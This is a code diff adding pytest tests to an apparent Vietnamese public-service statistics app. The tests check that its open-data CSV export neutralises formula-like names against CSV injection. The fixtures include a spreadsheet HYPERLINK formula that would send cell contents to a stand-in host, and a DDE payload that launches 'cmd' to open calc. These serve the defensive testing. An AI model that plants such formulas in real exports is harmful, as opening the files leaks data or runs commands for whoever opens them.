@@ -190,3 +190,35 @@ def test_xlsx_keeps_a_name_that_looks_like_a_formula_as_text(client, table):
     cells = [ws.cell(row, 2) for row in range(7, 10)]
     named = [c for c in cells if c.value == name]
     assert len(named) == 1 and named[0].data_type == "s"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_open_data_csv_writes_a_name_that_looks_like_a_formula_as_text(client, table, start):
+    """A field or agency name (from the catalogue import or the admin) that a spreadsheet would read as a formula is
+    written with a leading apostrophe (OWASP CSV injection); the other names and every figure are written as they
+    are."""
+    from motcua.catalog.models import Field
+    from motcua.org.models import Agency
+
+    field = start + 'HYPERLINK("http://example.invalid/?x="&A1,"Mở")'
+    Field.objects.filter(name="Thành lập và hoạt động của hộ kinh doanh").update(name=field)
+    Agency.objects.filter(identifier="000.01.33.H26").update(name="@SUM(1+1)*cmd|' /C calc'!A0")
+    params = {"from": "2025-03-01", "to": "2025-03-31"}
+    c = client.get("/api/v1/stats/open-data.csv", params)
+    rows = list(csv.DictReader(io.StringIO(c.content.decode("utf-8-sig"), newline="")))
+    assert "'" + field in {row["field_name"] for row in rows}
+    assert {row["agency_name"] for row in rows if row["agency_identifier"] == "000.01.33.H26"} == {
+        "'@SUM(1+1)*cmd|' /C calc'!A0"
+    }
+    assert all(not row[k].startswith(exports.FORMULA_STARTS) for row in rows for k in row)
+    # the figures are those of the JSON, unchanged
+    body = client.get("/api/v1/stats/open-data.json", params).json()
+    figures = [*selectors.COUNT_KEYS, *selectors.RATE_KEYS]
+    as_json = sorted(tuple("" if r[k] is None else str(r[k]) for k in figures) for r in body["rows"])
+    assert sorted(tuple(row[k] for k in figures) for row in rows) == as_json
+
+
+def test_open_data_csv_cell_leaves_numbers_alone():
+    assert exports.csv_cell(-3) == -3 and exports.csv_cell(-2.5) == -2.5 and exports.csv_cell(0) == 0
+    assert exports.csv_cell(None) == "" and exports.csv_cell("Hà Nội") == "Hà Nội"
+    assert exports.csv_cell("-1") == "'-1"  # text that would be read as a formula, even a number-like one
